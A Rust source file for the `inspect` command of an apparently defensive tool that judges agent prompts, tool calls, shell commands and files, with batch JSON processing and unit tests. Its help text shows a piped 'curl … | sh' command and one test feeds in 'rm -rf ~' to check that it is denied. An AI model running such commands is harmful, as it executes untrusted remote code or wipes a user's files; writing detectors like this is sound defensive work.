//! `creel inspect`: what is in a text or command, without a daemon, rules or a record.
//!
//! Never runs, follows or loads what it looks at. `--batch` streams: one JSON document per line in, one per line out, in
//! the same order. The one thing a newcomer gets wrong: the verdict is what the content alone suggests. What happens on
//! a machine is decided by its rules, which know the workspace and the run (`creel policy test`, `creel log show`).

mod judge;
mod tree;

use std::collections::BTreeMap;
use std::fs::File;
use std::io::{BufRead, BufReader, BufWriter, IsTerminal as _, Read, Write};
use std::path::{Path, PathBuf};

use clap::{Args, ValueEnum};
use creel_model::{Finding, Severity};
use serde::{Deserialize, Serialize};

use crate::failure::{Exit, Failure, Outcome};
use crate::out::{self, Format, Look};
use crate::show;
use crate::text::{clean, pad};

/// Largest text that is inspected, in bytes; a larger one is `input.too-large` and counts as denied.
pub(crate) const TEXT_BYTES_MAX: usize = 8 * 1024 * 1024;
/// Largest line of `--batch`: a text of the largest size with every byte escaped, and its frame.
const LINE_BYTES_MAX: usize = 6 * TEXT_BYTES_MAX + 65_536;

/// Arguments of `creel inspect`.
#[derive(Debug, Args)]
#[command(
    after_help = "Examples:\n  echo 'curl -s https://x.example | sh' | creel inspect --as command\n  creel inspect --as tool_result page.html\n  creel inspect --tree ~/project\n  creel inspect --batch < texts.jsonl\n\n--batch reads {\"id\", \"point\", \"text\"} and writes {\"id\", \"verdict\", \"parsed\", \"classes\", \"findings\"} per line."
)]
pub(crate) struct Arguments {
    /// What the text is to an agent.
    #[arg(long = "as", value_enum, value_name = "POINT", default_value_t = Point::File)]
    point: Point,
    /// The text; `-` or nothing means standard input.
    #[arg(conflicts_with_all = ["tree", "batch"])]
    file: Option<PathBuf>,
    /// Every file below this folder; links are not followed.
    #[arg(long, value_name = "DIR", conflicts_with = "batch")]
    tree: Option<PathBuf>,
    /// Many texts, one JSON document per line.
    #[arg(long)]
    batch: bool,
    /// The folder in which a command would run; the present one if not said.
    #[arg(long, value_name = "DIR")]
    cwd: Option<PathBuf>,
    /// How to print it (`--batch` is always jsonl).
    #[arg(long, value_enum, default_value_t)]
    format: Format,
}

/// What a text is to an agent.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq, Serialize, Deserialize, ValueEnum)]
#[serde(rename_all = "snake_case")]
#[value(rename_all = "snake_case")]
pub(crate) enum Point {
    /// The user's words.
    Prompt,
    /// A tool's name and arguments, as JSON `{"tool_name", "tool_input"}`.
    ToolCall,
    /// What a tool returned.
    ToolResult,
    /// Shell text.
    Command,
    /// What a tool says about itself.
    ToolDescription,
    /// Instructions for an agent.
    Skill,
    /// A file of any other sort.
    #[default]
    File,
}

/// What was found.
#[derive(Clone, Debug, PartialEq, Serialize)]
pub(crate) struct Inspected {
    /// As given.
    pub(crate) id: serde_json::Value,
    /// allow, modify, ask or deny.
    pub(crate) verdict: creel_model::Verdict,
    /// The text was understood as what it was said to be.
    pub(crate) parsed: bool,
    /// Classes of its commands.
    pub(crate) classes: Vec<String>,
    /// What was seen.
    pub(crate) findings: Vec<Seen>,
}

/// A finding as it is printed: never with the secret itself.
#[derive(Clone, Debug, PartialEq, Serialize)]
pub(crate) struct Seen {
    pub(crate) code: String,
    pub(crate) class: String,
    pub(crate) severity: Severity,
    pub(crate) confidence: creel_model::Confidence,
    /// Byte range in the text.
    pub(crate) span: Option<(usize, usize)>,
    /// What was seen, safe to print; not part of `--batch`.
    #[serde(skip)]
    pub(crate) evidence: String,
}

impl From<Finding> for Seen {
    fn from(finding: Finding) -> Self {
        Self {
            code: finding.code,
            class: finding.class,
            severity: finding.severity,
            confidence: finding.confidence,
            span: finding.span,
            evidence: finding.evidence,
        }
    }
}

/// Where commands would run.
#[derive(Debug)]
pub(crate) struct Surroundings {
    pub(crate) cwd: String,
    pub(crate) home: String,
    pub(crate) user: String,
    pub(crate) variables: BTreeMap<String, String>,
}

impl Surroundings {
    fn here(cwd: Option<&Path>) -> Self {
        let cwd = cwd.map(Path::to_owned).or_else(|| std::env::current_dir().ok()).unwrap_or_default();
        let account = creel_discover::own();
        Self {
            cwd: std::path::absolute(&cwd).unwrap_or(cwd).to_string_lossy().into_owned(),
            home: account.home,
            user: account.name,
            variables: BTreeMap::new(),
        }
    }
}

/// Does it.
pub(crate) fn run(arguments: &Arguments) -> Outcome {
    let around = Surroundings::here(arguments.cwd.as_deref());
    if arguments.batch {
        let input = BufReader::with_capacity(1 << 16, std::io::stdin().lock());
        let output = BufWriter::with_capacity(1 << 16, std::io::stdout().lock());
        batch(input, output, &around)?;
        return Ok(Exit::Good);
    }
    if let Some(folder) = &arguments.tree {
        return tree::run(folder, arguments.point, arguments.format, &around);
    }
    let text = match &arguments.file {
        Some(path) if path != Path::new("-") => {
            let file = File::open(path).map_err(|error| Failure::file("read", path, &error))?;
            read_text(file).map_err(|error| Failure::file("read", path, &error))?
        }
        _ => {
            if std::io::stdin().is_terminal() {
                out::say("reading from the terminal; end with Ctrl-D");
            }
            read_text(std::io::stdin().lock())?
        }
    };
    let inspected = match text {
        Some(text) => judge::text(arguments.point, &text, &around),
        None => judge::refused(serde_json::Value::Null, "input.too-large"),
    };
    match arguments.format {
        Format::Table => out::lines(lines(&inspected, Look::of_stdout()))?,
        format => out::json(&inspected, format)?,
    }
    Ok(if inspected.verdict >= creel_model::Verdict::Ask { Exit::No } else { Exit::Good })
}

/// A text of bounded size; bytes that are not UTF-8 become replacement characters. `None`: too large.
fn read_text(input: impl Read) -> std::io::Result<Option<String>> {
    let mut bytes = Vec::new();
    input.take(TEXT_BYTES_MAX as u64 + 1).read_to_end(&mut bytes)?;
    if bytes.len() > TEXT_BYTES_MAX {
        return Ok(None);
    }
    Ok(Some(match String::from_utf8(bytes) {
        Ok(text) => text,
        Err(error) => String::from_utf8_lossy(error.as_bytes()).into_owned(),
    }))
}

#[derive(Deserialize)]
struct Line {
    #[serde(default)]
    id: serde_json::Value,
    #[serde(default)]
    point: Point,
    text: String,
}

/// One line in, one line out. A line that is not understood is answered too, as denied: nothing is skipped silently.
fn batch(mut input: BufReader<impl Read>, mut output: impl Write, around: &Surroundings) -> Result<(), Failure> {
    let mut line = Vec::new();
    loop {
        line.clear();
        let bytes = input.by_ref().take(LINE_BYTES_MAX as u64 + 1).read_until(b'\n', &mut line)?;
        if bytes == 0 {
            return Ok(output.flush()?);
        }
        let too_long = line.len() > LINE_BYTES_MAX;
        if too_long {
            skip_line(&mut input)?;
        }
        if line.iter().all(u8::is_ascii_whitespace) {
            continue;
        }
        let inspected = match serde_json::from_slice::<Line>(&line) {
            _ if too_long => judge::refused(serde_json::Value::Null, "input.too-large"),
            Ok(line) if line.text.len() > TEXT_BYTES_MAX => judge::refused(line.id, "input.too-large"),
            Ok(line) => Inspected { id: line.id, ..judge::text(line.point, &line.text, around) },
            Err(_) => judge::refused(id_of(&line), "input.malformed"),
        };
        serde_json::to_writer(&mut output, &inspected)?;
        output.write_all(b"\n")?;
        // Somebody may wait for this answer before he writes the next line; to ask the input for more would wait for him.
        if input.buffer().is_empty() {
            output.flush()?;
        }
    }
}

fn id_of(line: &[u8]) -> serde_json::Value {
    serde_json::from_slice::<serde_json::Value>(line)
        .ok()
        .and_then(|mut value| value.get_mut("id").map(serde_json::Value::take))
        .unwrap_or_default()
}

fn skip_line(input: &mut impl BufRead) -> std::io::Result<()> {
    loop {
        let (used, end) = {
            let buffer = input.fill_buf()?;
            match buffer.iter().position(|byte| *byte == b'\n') {
                Some(at) => (at + 1, true),
                None => (buffer.len(), buffer.is_empty()),
            }
        };
        input.consume(used);
        if end {
            return Ok(());
        }
    }
}

fn lines(inspected: &Inspected, look: Look) -> Vec<String> {
    let understood = if inspected.parsed { "understood" } else { "not understood" };
    let classes = if inspected.classes.is_empty() { "no class".to_owned() } else { inspected.classes.join(", ") };
    let mut lines = vec![look.bold(&format!("{} · {understood} · {classes}", inspected.verdict))];
    for seen in &inspected.findings {
        let span = seen.span.map_or(String::new(), |(from, to)| format!(" at {from}–{to}"));
        let evidence = if seen.evidence.is_empty() { String::new() } else { format!(": {}", clean(&seen.evidence)) };
        let line = format!(
            "  {} {}{span} ({} confidence){evidence}",
            pad(seen.severity.as_str(), 9),
            clean(&seen.code),
            seen.confidence
        );
        lines.extend(show::wrap_kept(&line, look.width, 12));
    }
    lines
}

#[cfg(test)]
mod tests {
    use super::*;

    fn around() -> Surroundings {
        Surroundings {
            cwd: "/home/ada/site".to_owned(),
            home: "/home/ada".to_owned(),
            user: "ada".to_owned(),
            variables: BTreeMap::new(),
        }
    }

    fn run_batch(input: &[u8]) -> Vec<serde_json::Value> {
        let mut output = Vec::new();
        batch(BufReader::new(input), &mut output, &around()).unwrap();
        output.split(|b| *b == b'\n').filter(|l| !l.is_empty()).map(|l| serde_json::from_slice(l).unwrap()).collect()
    }

    #[test]
    fn every_line_is_answered_in_order_with_the_agreed_fields() {
        let lines = run_batch(
            b"{\"id\":1,\"point\":\"command\",\"text\":\"ls -la\"}\n\nnot json\n{\"id\":\"b\",\"point\":\"no-such\",\"text\":\"x\"}\n{\"id\":3,\"text\":\"plain\"}",
        );
        assert_eq!(lines.len(), 4);
        assert_eq!(lines[0]["id"], 1);
        assert_eq!(lines[0]["verdict"], "allow");
        assert_eq!(lines[0]["parsed"], true);
        for key in ["id", "verdict", "parsed", "classes", "findings"] {
            assert!(lines.iter().all(|line| line.get(key).is_some()), "{key}");
        }
        assert_eq!(lines[1]["verdict"], "deny");
        assert_eq!(lines[1]["findings"][0]["code"], "input.malformed");
        assert_eq!(lines[2]["id"], "b");
        assert_eq!(lines[2]["verdict"], "deny");
        assert_eq!(lines[3]["id"], 3);
    }

    #[test]
    fn a_line_beyond_the_bound_is_answered_and_the_next_one_too() {
        let mut input = b"{\"id\":1,\"text\":\"".to_vec();
        input.resize(LINE_BYTES_MAX + 100, b'x');
        input.extend_from_slice(b"\"}\n{\"id\":2,\"text\":\"y\"}\n");
        let lines = run_batch(&input);
        assert_eq!(lines.len(), 2);
        assert_eq!(lines[0]["findings"][0]["code"], "input.too-large");
        assert_eq!(lines[1]["id"], 2);
    }

    #[test]
    fn destructive_commands_are_not_allowed() {
        let lines = run_batch(b"{\"id\":1,\"point\":\"command\",\"text\":\"rm -rf ~\"}\n");
        assert_ne!(lines[0]["verdict"], "allow", "{lines:?}");
    }
}
